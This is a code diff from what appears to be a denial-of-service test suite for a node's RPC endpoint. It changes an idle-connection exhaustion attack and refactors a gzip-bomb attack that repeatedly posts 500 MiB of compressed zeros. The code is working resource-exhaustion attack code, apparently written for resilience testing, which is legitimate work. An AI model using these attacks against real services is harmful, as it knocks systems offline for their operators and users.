@@ -118,7 +118,6 @@ class IdleConnections(Attack):
     port = "rpc"
     sends = "nothing; meanwhile 400 ordinary transactions of 60 kB go to another node (ulimit -n is 1024)"
     bound = "1,010 connections"
-    presses_storage = True
 
     async def run(self, target: Target, clock: Clock, tally: Tally) -> None:
         async def speak(reader: asyncio.StreamReader, _: asyncio.StreamWriter) -> None:
@@ -248,15 +247,16 @@ class GzipBombs(Attack):
     sends = "500 MiB of zeros as gzip (500 kB), again and again"
     bound = "4 connections"
 
-    async def run(self, target: Target, clock: Clock, tally: Tally) -> None:
+    def prepare(self, target: Target) -> None:
         block = bytes(1_048_576)
         packer = zlib.compressobj(wbits=31)  # gzip
         body = b"".join([*[packer.compress(block) for _ in range(500)], packer.flush()])
-        request = post(body, target.rpc[target.victim], Content_Encoding="gzip")
+        self._request = post(body, target.rpc[target.victim], Content_Encoding="gzip")
 
+    async def run(self, target: Target, clock: Clock, tally: Tally) -> None:
         async def speak(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-            writer.write(request)
-            tally.count(len(request))
+            writer.write(self._request)
+            tally.count(len(self._request))
             await writer.drain()
             await until_closed(reader, tally)
 
